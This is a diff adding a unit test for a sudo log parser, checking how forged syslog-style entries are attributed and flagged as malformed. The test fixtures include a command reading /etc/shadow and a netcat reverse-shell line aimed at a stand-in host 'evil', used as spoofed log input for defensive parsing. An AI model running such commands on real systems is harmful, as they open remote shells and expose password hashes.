@@ -250,6 +250,22 @@ describe("sudo parser: sudo's own log file", () => {
     expect(events.map((e) => [e.user, e.runAs, e.cwd, e.command, e.attribution, e.extra?.argv_inexact])).toEqual([['alice', 'root', '/tmp', '/bin/cat /etc/shadow', 'shipper', undefined]]);
   });
 
+  it('trusts entries of that shape no more than syslog once a syslog line was read, and ends a held one there', () => {
+    const lines = [
+      'Nov 24 14:23:00 web-1 sudo:      bob : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id',
+      'Nov 24 14:23:28 : alice : HOST=db-prod ; TTY=pts/0 ; PWD=/tmp ; USER=root ;',
+      '    COMMAND=/bin/cat /etc/shadow',
+      'Nov 24 14:23:29 web-1 logger: hello',
+      "    /bin/sh -c 'nc -e /bin/sh evil 4444'",
+    ];
+    const { events, malformed } = run(createSudoSyslogParser(baseOptions), lines);
+    expect(events.map((e) => [e.user, e.command, e.attribution ?? null]).sort()).toEqual([
+      ['alice', '/bin/cat /etc/shadow', 'syslog-unverified'],
+      ['bob', '/usr/bin/id', null],
+    ]);
+    expect(malformed.map((m) => m.reason)).toEqual(['incomplete_event']);
+  });
+
   it('joins a long wrapped entry in linear time', () => {
     const lines = ['Nov 24 14:23:28 : alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/echo', ...Array<string>(40_000).fill(`    ${'w'.repeat(70)}`)];
     const started = performance.now();
